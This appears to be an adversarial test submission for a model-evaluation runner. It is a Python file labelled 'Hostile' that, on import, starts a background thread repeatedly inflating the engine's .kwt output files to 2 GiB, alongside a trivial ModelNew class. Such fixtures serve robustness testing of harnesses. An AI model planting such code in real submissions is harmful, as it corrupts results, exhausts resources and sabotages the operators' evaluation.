"""Hostile: grows every output file the engine wrote to 2 GiB (sparse) from a thread."""
import glob, json, threading, time
import torch
import torch.nn as nn

def dirs():  # wherever the engine writes (its job file says; memory-backed or not)
    try:
        job = json.load(open("runner_job.json"))
        return [job.get("out_dir") or "out", job.get("spill_dir") or "out"]
    except (OSError, ValueError):
        return ["out"]

def grow():
    where = dirs()
    for _ in range(4000):
        for f in [f for d in where for f in glob.glob(d + "/*.kwt")]:
            try:
                with open(f, "r+b") as fh:
                    fh.truncate(2 << 30)
            except OSError:
                pass
        time.sleep(0.002)

threading.Thread(target=grow, daemon=True).start()

class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x) + 1.0
